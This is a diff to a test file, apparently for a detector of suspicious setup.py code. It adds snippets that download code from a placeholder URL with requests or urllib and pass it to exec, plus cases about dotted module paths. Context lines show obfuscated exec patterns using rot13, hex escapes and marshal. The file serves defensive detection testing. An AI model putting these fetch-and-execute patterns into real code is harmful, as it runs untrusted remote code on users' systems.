@@ -85,6 +85,8 @@ EXECS = [
     "exec(__import__('co' 'decs').decode(S, 'rot13'))\n",
     "from importlib import import_module\nexec(import_module('\\x63odecs').decode(S, 'x'))\n",
     "exec(__import__('requests').get('http://x').text)\n",
+    "from requests import get as g\nexec(g('http://x').text)\n",
+    "import urllib.request as u\nexec(u.urlopen('http://x').read())\n",
     "exec(__import__('marshal').loads(D))\n",
     "import marshal\nexec(marshal.loads(D))\n",
     "from urllib.request import urlopen as u\nexec(u('http://x').read())\n",
@@ -159,6 +161,9 @@ def test_setup_py_counts_every_scope_in_the_filter_too() -> None:
             "import base64, re\nR = re.compile(base64.b64decode(S))\nm.eval(base64.b64decode(S))\n",
             "exec",
         ),
+        # ``requests`` inside a dotted path is no ``requests`` module
+        ("import pip._vendor.requests\nm = __import__(name)\n", "exec"),
+        ("M = __import__('pip._vendor.requests.api')\n", "exec"),
         (
             "import requests\nclass M:\n    def eval(self):\n"
             "        return self.exec(requests.get(U))\n",
